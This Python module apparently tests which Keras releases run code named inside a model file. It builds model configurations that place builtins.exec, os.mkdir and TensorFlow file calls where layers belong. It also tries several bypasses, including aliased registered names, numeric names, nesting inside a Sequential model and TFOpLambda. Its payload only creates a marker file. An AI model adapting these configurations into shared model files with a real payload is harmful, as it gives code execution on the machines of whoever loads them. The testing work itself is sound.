"""Models of Keras that try to execute something, and a program that loads one and tells.

The worst that a payload does is to make a file in the folder where it is loaded.
"""

from __future__ import annotations

import json
import zipfile

MARK = "made-by-the-model"
"""The file that a payload makes where the model is loaded."""

CODE = f"open({MARK!r}, 'w').close()"

LOAD = """
import os, sys
os.environ["TF_CPP_MIN_LOG_LEVEL"] = "3"
import tensorflow as tf
for path in sys.argv[2:]:
    folder = path + "-in-" + sys.argv[1]
    os.makedirs(folder)
    os.chdir(folder)
    try:
        tf.keras.models.load_model(path)
        told = "loaded"
    except BaseException as error:
        told = type(error).__name__ + ": " + " ".join(str(error).split())[:160]
    print(os.path.basename(path), told, os.listdir(folder), flush=True)
"""
"""The program of the pinned interpreter; the first argument names its folders."""


SHAPES = {2: "batch_input_shape", 3: "batch_shape"}
MODULES = {2: "keras.src.engine.functional", 3: "keras.src.models.functional"}


def functional(payload, keras=3):
    """A model that has a payload in the place of a layer, as Keras 2 or 3 writes it."""
    first = {
        "module": "keras.layers",
        "class_name": "InputLayer",
        "registered_name": None,
        "name": "first",
        "inbound_nodes": [],
        "config": {SHAPES[keras]: [None, 1], "dtype": "float32", "name": "first"},
    }
    return {
        "module": MODULES[keras], "class_name": "Functional", "registered_name": "Functional",
        "config": {
            "name": "model", "trainable": True, "layers": [first, payload],
            "input_layers": [["first", 0, 0]], "output_layers": [["first", 0, 0]],
        },
    }  # fmt: skip


def called(module, name, argument, registered="function"):
    """A "layer" that is a function, which building the model calls with a text (Keras 3)."""
    return {
        "module": module, "class_name": "function", "config": name, "registered_name": registered,
        "name": "payload", "inbound_nodes": [{"args": [argument], "kwargs": {}}],
    }  # fmt: skip


WRITER = "tensorflow.python.lib.io.file_io"

CONFIGS = {
    "exec": functional(called("builtins", "exec", CODE)),
    "exec-by-registered-name": functional(called("builtins", "celu", CODE, "exec")),
    "no-builtins": functional(called("os", "mkdir", MARK)),
    "a-registered-name-hides-os": functional(called("os", "mkdir", MARK, "my>mkdir")),
    "a-number-for-a-name": functional(called("os", 5, MARK, "mkdir")),
    "tensorflow-makes-a-folder": functional(called(WRITER, "create_dir_v2", MARK)),
    "in-a-sequential": {
        "module": "keras", "class_name": "Sequential", "registered_name": None,
        "config": {"name": "model", "layers": [functional(called("os", "mkdir", MARK))]},
    },
    "a-symbol": functional(
        {
            "module": "keras.src.layers.core.tf_op_layer", "class_name": "TFOpLambda",
            "registered_name": "TFOpLambda", "name": "symbol",
            "config": {"name": "symbol", "trainable": True, "function": "io.gfile.makedirs"},
            "inbound_nodes": [["_CONSTANT_VALUE", -1, MARK, {}]],
        },
        keras=2,
    ),
}  # fmt: skip
"""Configurations of which some release executes what they name."""


def write_keras(path, config, **members):
    """Write an archive as Keras 2.13 and later do, with no weights."""
    with zipfile.ZipFile(path, "w") as file:
        file.writestr("metadata.json", json.dumps({"keras_version": "2.15.0"}))
        file.writestr("config.json", json.dumps(config))
        for name, content in members.items():
            file.writestr(name, content)


def write_h5(path, config):
    """Write a whole model in HDF5, with no weights."""
    import h5py

    with h5py.File(path, "w") as file:
        file.attrs["keras_version"], file.attrs["backend"] = "2.15.0", "tensorflow"
        file.attrs["model_config"] = json.dumps(config)
        weights = file.create_group("model_weights")
        weights.attrs["layer_names"] = []
        weights.attrs["keras_version"] = "2.15.0"
